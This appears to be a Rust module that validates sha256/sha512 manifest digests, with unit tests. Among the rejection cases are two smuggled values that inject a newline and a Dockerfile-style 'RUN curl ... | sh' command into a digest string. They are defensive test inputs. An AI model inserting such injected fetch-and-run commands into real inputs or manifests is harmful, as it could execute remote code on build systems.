//! The content digest of a manifest. A [`Digest`] only exists validated: `sha256:` followed by
//! 64 lowercase hex characters, or `sha512:` followed by 128. Anything a registry or a file
//! hands us goes through [`Digest::parse`] before it can be written anywhere.

use std::fmt;
use std::str::FromStr;

/// A validated manifest digest such as `sha256:0123…`.
#[derive(Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Digest(String);

/// Why a string is not an acceptable digest.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DigestError {
    #[error("unsupported digest algorithm (expected sha256 or sha512)")]
    UnsupportedAlgorithm,
    #[error("a {algorithm} digest needs exactly {expected} lowercase hex characters")]
    BadHex {
        algorithm: &'static str,
        expected: usize,
    },
}

impl Digest {
    /// Validates `text` as `sha256:<64 lowercase hex>` or `sha512:<128 lowercase hex>`.
    pub fn parse(text: &str) -> Result<Self, DigestError> {
        let (algorithm, expected, hex) = if let Some(hex) = text.strip_prefix("sha256:") {
            ("sha256", 64, hex)
        } else if let Some(hex) = text.strip_prefix("sha512:") {
            ("sha512", 128, hex)
        } else {
            return Err(DigestError::UnsupportedAlgorithm);
        };
        let lower_hex = |b: &u8| b.is_ascii_digit() || (b'a'..=b'f').contains(b);
        if hex.len() != expected || !hex.as_bytes().iter().all(lower_hex) {
            return Err(DigestError::BadHex {
                algorithm,
                expected,
            });
        }
        Ok(Digest(text.to_owned()))
    }

    /// The algorithm name before the colon: `sha256` or `sha512`.
    pub fn algorithm(&self) -> &str {
        self.0.split_once(':').map_or("", |(a, _)| a)
    }

    /// The hex part after the colon.
    pub fn hex(&self) -> &str {
        self.0.split_once(':').map_or("", |(_, h)| h)
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl FromStr for Digest {
    type Err = DigestError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Digest::parse(s)
    }
}

impl fmt::Display for Digest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for Digest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Digest({})", self.0)
    }
}

impl serde::Serialize for Digest {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HEX64: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    #[test]
    fn accepts_sha256_and_sha512() {
        let d = Digest::parse(&format!("sha256:{HEX64}")).unwrap();
        assert_eq!(d.algorithm(), "sha256");
        assert_eq!(d.hex(), HEX64);
        assert!(Digest::parse(&format!("sha512:{HEX64}{HEX64}")).is_ok());
    }

    #[test]
    fn rejects_everything_else() {
        let bad = [
            String::new(),
            "sha256:".into(),
            format!("sha256:{}", &HEX64[..63]),
            format!("sha256:{HEX64}0"),
            format!("sha256:{}", HEX64.to_uppercase()),
            format!("SHA256:{HEX64}"),
            format!("sha384:{HEX64}"),
            format!("sha512:{HEX64}"),
            format!("sha256:{}\nRUN curl evil", &HEX64[..60]),
            format!("sha256:{HEX64}\n"),
            format!(" sha256:{HEX64}"),
            "sha256:0000\nRUN curl http://x | sh".into(),
        ];
        for text in bad {
            assert!(Digest::parse(&text).is_err(), "accepted {text:?}");
        }
    }
}
